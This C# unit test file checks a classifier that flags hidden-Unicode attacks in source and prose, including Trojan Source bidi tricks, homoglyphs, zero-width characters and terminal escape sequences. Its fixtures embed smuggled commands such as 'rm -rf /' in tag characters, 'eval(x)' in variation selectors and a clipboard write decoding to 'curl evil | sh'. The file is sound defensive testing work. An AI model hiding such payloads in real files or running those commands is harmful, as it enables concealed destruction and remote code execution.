using Sov.Core.Text;

namespace Sov.Tests.Text;

/// <summary>Every attack class in issue #3 is found at its category and at least its severity.</summary>
public sealed class AttackTests
{
    private static void AssertFinding(string text, TextCategory category, Severity atLeast, SourceKind kind = SourceKind.CLike, string? messageContains = null)
    {
        var findings = Classify.Text(text, kind);
        var hit = findings.FirstOrDefault(f => f.Category == category && f.Severity >= atLeast
            && (messageContains is null || f.Message.Contains(messageContains, StringComparison.Ordinal)));
        Assert.True(hit is not null, $"expected {TextCategories.Name(category)} >= {Severities.Name(atLeast)}, got: {Classify.Describe(findings)}");
    }

    [Fact] // Trojan Source (CVE-2021-42574): RLO left open at end of line inside a comment.
    public void UnterminatedRloIsCritical() =>
        AssertFinding("/* \u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */\n", TextCategory.Bidi, Severity.Critical);

    [Fact] // Trojan Source "stretched string": the isolate pair opens in a string and closes after the closing quote.
    public void BalancedBidiAcrossStringBoundaryIsCritical()
    {
        var findings = Classify.Text("if (a != \"user\u2067\" && b\u2069) {}\n");
        Assert.Contains(findings, f => f.Rule == "bidi-spans-boundary" && f.Severity == Severity.Critical);
    }

    [Fact]
    public void BalancedBidiInsideOneStringIsStillReported()
    {
        var findings = Classify.Text("var s = \"a\u2067b\u2069c\";\n");
        Assert.Contains(findings, f => f.Category == TextCategory.Bidi && f.Rule == "bidi-balanced" && f.Severity >= Severity.Low);
    }

    [Fact] // ASCII smuggling in Unicode tag characters: the hidden text is decoded into the message.
    public void TagSmugglingIsCriticalAndDecoded()
    {
        var hidden = string.Concat("rm -rf /".Select(c => char.ConvertFromUtf32(0xE0000 + c)));
        AssertFinding($"# Rules\nBe helpful.{hidden}\n", TextCategory.Tag, Severity.Critical, SourceKind.Prose, "\"rm -rf /\"");
    }

    [Fact] // GlassWorm (2025): bytes smuggled in runs of variation selectors, decoded into the message.
    public void VariationSelectorRunIsCriticalAndDecoded()
    {
        var payload = string.Concat("eval(x)"u8.ToArray().Select(b => char.ConvertFromUtf32(b < 16 ? 0xFE00 + b : 0xE0100 + b - 16)));
        AssertFinding($"const s = `{payload}`;\n", TextCategory.VariationSelector, Severity.Critical, messageContains: "\"eval(x)\"");
    }

    [Fact]
    public void LoneUnregisteredVariationSelectorIsMedium() =>
        AssertFinding("let a\uFE01 = 1;\n", TextCategory.VariationSelector, Severity.Medium);

    [Fact]
    public void ZeroWidthInsideIdentifierIsMedium() =>
        AssertFinding("var is\u200BAdmin = true;\n", TextCategory.ZeroWidth, Severity.Medium);

    [Fact]
    public void ZeroWidthJoinerInsideLatinWordIsMedium() =>
        AssertFinding("def check\u200Dpassword(): pass\n", TextCategory.ZeroWidth, Severity.Medium, SourceKind.Hash);

    [Fact]
    public void ZeroWidthRunIsHigh() =>
        AssertFinding("Hello\u200B\u200C\u200B\u200C\u200D world\n", TextCategory.ZeroWidth, Severity.High, SourceKind.Prose);

    [Fact] // The JavaScript "invisible backdoor": a Hangul filler as an identifier.
    public void HangulFillerIsHigh() =>
        AssertFinding("const { timeout,\u3164} = req.query;\n", TextCategory.Invisible, Severity.High);

    [Fact]
    public void SoftHyphenInsideIdentifierIsMedium() =>
        AssertFinding("int pass\u00ADword = 0;\n", TextCategory.Invisible, Severity.Medium);

    [Fact]
    public void EscapeSequenceIsHigh() =>
        AssertFinding("print(\"\u001b[2J\u001b[1;1H\")\n", TextCategory.Control, Severity.High, SourceKind.Hash);

    [Fact] // OSC 8 hyperlinks hide where a link goes.
    public void Osc8HyperlinkIsHighAndNamesTheTarget() =>
        AssertFinding("see \u001b]8;;https://evil.example/\u0007docs\u001b]8;;\u0007\n", TextCategory.Control, Severity.High, SourceKind.Prose, "https://evil.example/");

    [Fact] // OSC 52 writes the clipboard.
    public void Osc52ClipboardIsHighAndDecoded() =>
        AssertFinding("x\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\n", TextCategory.Control, Severity.High, SourceKind.Prose, "curl evil | sh");

    [Fact]
    public void C1ControlIsHigh() =>
        AssertFinding("a\u009bb\n", TextCategory.Control, Severity.High);

    [Fact]
    public void BackspaceIsHigh() =>
        AssertFinding("a\bb\n", TextCategory.Control, Severity.High);

    [Fact]
    public void NbspInCodeIsMedium() =>
        AssertFinding("if\u00A0(x) { }\n", TextCategory.Whitespace, Severity.Medium);

    [Fact]
    public void ColumnsCountCodePointsAcrossManyFindingsOnOneLine()
    {
        var findings = Classify.Text("\u00E9\u00A0b\u00A0\U0001F600\u00A0d\nx\u00A0\n");
        Assert.Equal(["1:2", "1:4", "1:6", "2:2"], findings.Where(f => f.Category == TextCategory.Whitespace).Select(f => $"{f.Line}:{f.Column}").ToArray());
    }

    [Fact]
    public void LineSeparatorInCodeIsMedium() =>
        AssertFinding("var a = 1;\u2028var b = 2;\n", TextCategory.Whitespace, Severity.Medium);

    [Fact]
    public void IdeographicSpaceInCodeIsMedium() =>
        AssertFinding("x\u3000= 1\n", TextCategory.Whitespace, Severity.Medium, SourceKind.Hash);

    [Fact] // Overlong '/' (C0 AF): a classic filter bypass.
    public void OverlongUtf8IsReported()
    {
        var findings = TextClassifier.Classify([(byte)'a', 0xC0, 0xAF, (byte)'b'], new ClassifyOptions(SourceKind.Plain));
        Assert.Contains(findings, f => f.Category == TextCategory.InvalidUtf8 && f.Rule == "overlong-utf8" && f.CodePoint == '/');
    }

    [Fact]
    public void InvalidUtf8IsReported()
    {
        var findings = TextClassifier.Classify([(byte)'a', 0xFF, (byte)'b', 0xE2, 0x82], new ClassifyOptions(SourceKind.Plain));
        Assert.Equal(2, findings.Count(f => f.Category == TextCategory.InvalidUtf8));
    }

    [Fact] // Homoglyph identifiers (CVE-2021-42694): Cyrillic а in a Latin name.
    public void MixedScriptIdentifierIsMedium() =>
        AssertFinding("var p\u0430yp\u0430l = 1;\n", TextCategory.MixedScript, Severity.Medium);

    [Fact] // Homoglyph word in a rules file: looks entirely like ASCII, so loud even in prose.
    public void MixedScriptLookalikeWordInProseIsMedium() =>
        AssertFinding("Fetch updates from p\u0430yp\u0430l.example only.\n", TextCategory.MixedScript, Severity.Medium, SourceKind.Prose);

    [Fact] // A whole-Cyrillic identifier that collides with a Latin one by TR39 skeleton.
    public void SkeletonCollisionIsMedium() =>
        AssertFinding("int \u0440\u043E\u0440 = 1;\nint pop = 2;\n", TextCategory.Confusable, Severity.Medium);

    [Fact]
    public void BomInTheMiddleIsMedium() =>
        AssertFinding("a = 1\n\uFEFFb = 2\n", TextCategory.Bom, Severity.Medium, SourceKind.Hash);

    [Fact]
    public void PrivateUseIsReported() =>
        AssertFinding("x = '\uE000'\n", TextCategory.PrivateUse, Severity.Low, SourceKind.Hash);

    [Fact]
    public void UnassignedIsReported() =>
        AssertFinding("x = '\u0378'\n", TextCategory.Unassigned, Severity.Low, SourceKind.Hash);

    [Fact]
    public void TrailingWhitespaceIsInfo() =>
        AssertFinding("x = 1  \n", TextCategory.TrailingWhitespace, Severity.Info, SourceKind.Hash);

    [Fact]
    public void TagsAfterAValidFlagAreStillCritical()
    {
        var england = "\U0001F3F4\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F";
        AssertFinding(england + "\U000E0068\U000E0069\n", TextCategory.Tag, Severity.Critical, SourceKind.Prose, "\"hi\"");
    }
}
